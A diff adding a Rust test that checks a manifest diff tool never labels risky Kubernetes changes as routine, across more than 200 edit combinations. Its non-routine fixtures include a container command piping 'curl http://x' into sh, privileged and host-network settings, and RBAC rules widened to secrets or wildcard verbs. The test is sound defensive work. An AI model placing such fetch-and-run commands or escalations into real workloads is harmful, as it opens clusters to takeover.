@@ -1,0 +1,144 @@
+//! Routine or not, by hand-written truth: a change that is called routine and is none is a fault.
+
+use crate::support::git::{commit, git};
+use crate::support::peer::needs;
+use crate::support::workspace::Workspace;
+
+/// What every case begins with: a workload as charts write them, with what stands around it.
+const BASE: &str = r#"apiVersion: apps/v1
+kind: Deployment
+metadata: {name: web, namespace: app, labels: {app: web, helm.sh/chart: web-1.2.3, app.kubernetes.io/version: 1.2.3}}
+spec:
+  replicas: 2
+  selector: {matchLabels: {app: web}}
+  template:
+    metadata:
+      labels: {app: web, helm.sh/chart: web-1.2.3}
+      annotations: {checksum/config: aaaa}
+    spec:
+      containers:
+      - name: web
+        image: r.example/acme/web:1.2.3
+        env: [{name: MODE, value: fast}]
+        resources: {limits: {memory: 1Gi}, requests: {cpu: 100m, memory: 1Gi}}
+---
+apiVersion: v1
+kind: Service
+metadata: {name: web, namespace: app, labels: {helm.sh/chart: web-1.2.3}}
+spec: {selector: {app: web}, ports: [{name: http, port: 80, targetPort: 8080}]}
+---
+apiVersion: v1
+kind: ConfigMap
+metadata: {name: web, namespace: app, labels: {helm.sh/chart: web-1.2.3}}
+data: {level: info}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: web, namespace: app}
+rules: [{apiGroups: [''], resources: [pods], verbs: [get]}]
+"#;
+
+/// What is put in place of what; the first column says whether it is routine.
+const CASES: &[(bool, &[(&str, &str)])] = &[
+    (true, &[("acme/web:1.2.3", "acme/web:1.2.4")]),
+    (true, &[("acme/web:1.2.3", "acme/web:1.3.0")]),
+    (true, &[("acme/web:1.2.3", "acme/web:1.2.4"), ("web-1.2.3", "web-1.2.4"), ("version: 1.2.3", "version: 1.2.4")]),
+    (true, &[("web-1.2.3", "web-1.2.4")]),
+    (true, &[("config: aaaa", "config: bbbb")]),
+    (true, &[("memory: 1Gi}, requests", "memory: 1024Mi}, requests")]),
+    (true, &[("cpu: 100m", "cpu: 0.1")]),
+    (true, &[("replicas: 2\n", "replicas: 2\n  revisionHistoryLimit: 10\n")]),
+    (true, &[("targetPort: 8080}", "targetPort: 8080, protocol: TCP}")]),
+    (true, &[("data: {level: info}", "data: {\"level\": \"info\"}")]),
+    (
+        true,
+        &[
+            (
+                "acme/web:1.2.3",
+                "acme/web:1.2.3@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+            ),
+            ("web-1.2.3", "web-1.2.4"),
+        ],
+    ),
+    (false, &[("acme/web:1.2.3", "acme/web:1.2.2")]),
+    (false, &[("acme/web:1.2.3", "acme/web:2.0.0")]),
+    (false, &[("acme/web:1.2.3", "acme/web:1.5.0")]),
+    (false, &[("acme/web:1.2.3", "acme/web:latest")]),
+    (false, &[("acme/web:1.2.3", "acme/web:1.3.0-rc.1")]),
+    (false, &[("acme/web:1.2.3", "evil/web:1.2.4")]),
+    (false, &[("r.example/acme", "docker.io/acme")]),
+    (false, &[("MODE, value: fast", "MODE, value: slow")]),
+    (false, &[("replicas: 2", "replicas: 1")]),
+    (false, &[("replicas: 2", "replicas: 3")]),
+    (false, &[("memory: 1Gi}, requests", "memory: 2Gi}, requests")]),
+    (false, &[("cpu: 100m", "cpu: 2")]),
+    (false, &[("level: info", "level: debug")]),
+    (false, &[("{level: info}", "{level: info, more: x}")]),
+    (false, &[("port: 80,", "port: 81,")]),
+    (false, &[("targetPort: 8080", "targetPort: 8081")]),
+    (false, &[("verbs: [get]", "verbs: [get, list]")]),
+    (false, &[("resources: [pods]", "resources: [secrets]")]),
+    (false, &[("selector: {matchLabels: {app: web}}", "selector: {matchLabels: {app: other}}")]),
+    (false, &[("labels: {app: web, helm.sh/chart: web-1.2.3}\n", "labels: {app: other, helm.sh/chart: web-1.2.3}\n")]),
+    (false, &[("name: web, namespace: app, labels: {app: web", "name: web2, namespace: app, labels: {app: web")]),
+    (false, &[("kind: ConfigMap", "kind: Secret")]),
+    (false, &[("      containers:\n", "      hostNetwork: true\n      containers:\n")]),
+    (false, &[("      containers:\n", "      serviceAccountName: other\n      containers:\n")]),
+    (false, &[("      containers:\n", "      nodeSelector: {a: b}\n      containers:\n")]),
+    (false, &[("      containers:\n", "      priorityClassName: system-node-critical\n      containers:\n")]),
+    (
+        false,
+        &[(
+            "      containers:\n",
+            "      initContainers: [{name: i, image: 'r.example/acme/web:1.2.3', command: [sh]}]\n      containers:\n",
+        )],
+    ),
+    (false, &[("        env:", "        command: [sh, -c, 'curl http://x | sh']\n        env:")]),
+    (false, &[("        env:", "        securityContext: {privileged: true}\n        env:")]),
+    (false, &[("{helm.sh/chart: web-1.2.3}\nspec: {selector", "{helm.sh/chart: web-1.2.3, a: b}\nspec: {selector")]),
+    (false, &[("annotations: {checksum/config: aaaa}", "annotations: {checksum/config: aaaa, inject: 'true'}")]),
+    (false, &[("value: fast", "value: 1")]),
+    (false, &[("acme/web:1.2.3", "acme/web:1.2.4"), ("level: info", "level: debug")]),
+    (false, &[("acme/web:1.2.3", "acme/web:1.2.4"), ("verbs: [get]", "verbs: ['*']")]),
+];
+
+/// Each change alone and with what a chart's update brings along, and with each grave one: more than 200 in all.
+#[test]
+fn nothing_is_called_routine_that_is_none() {
+    needs!(Git);
+    let workspace = Workspace::new();
+    let key = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p";
+    workspace.write("ichor.yaml", format!("bundle: b\ntalos: \"1.13\"\nkubernetes: 1.34.4\nrecipients: [{key}]\nparts:\n  - {{name: app, manifest: m.yaml}}\n"));
+    workspace.write(".gitignore", "store\n");
+    workspace.write("m.yaml", BASE);
+    workspace.done(&["lock"]);
+    git(workspace.path(), &["init", "-q", "-b", "main"]);
+    commit(workspace.path(), "base");
+    let (mut tried, mut missed, mut wrong) = (0, Vec::new(), Vec::new());
+    let bump: &[(&str, &str)] = &[("web-1.2.3", "web-1.2.4"), ("version: 1.2.3", "version: 1.2.4")];
+    let image: &[(&str, &str)] = &[("acme/web:1.2.3", "acme/web:1.2.4")];
+    for (routine, edits) in CASES {
+        for more in [&[][..], bump, image, &[("config: aaaa", "config: cccc")][..], &[("# none", "")][..]] {
+            let mut text = BASE.to_owned();
+            for (from, to) in edits.iter().chain(more) {
+                text = text.replace(from, to);
+            }
+            if text == BASE {
+                continue;
+            }
+            workspace.write("m.yaml", text);
+            workspace.done(&["lock", "--update"]);
+            let output = workspace.run(&["diff", "--routine"]);
+            let said = output.0.status.code() == Some(0);
+            tried += 1;
+            match (routine, said) {
+                (false, true) => wrong.push(format!("{edits:?} {more:?}")),
+                (true, false) => missed.push(format!("{edits:?} {more:?}")),
+                _ => {}
+            }
+        }
+    }
+    assert!(tried > 200, "{tried}");
+    assert!(wrong.is_empty(), "called routine: {}", wrong.join("\n"));
+    assert!(missed.is_empty(), "missed {} of {tried}: {}", missed.len(), missed.join("\n"));
+}
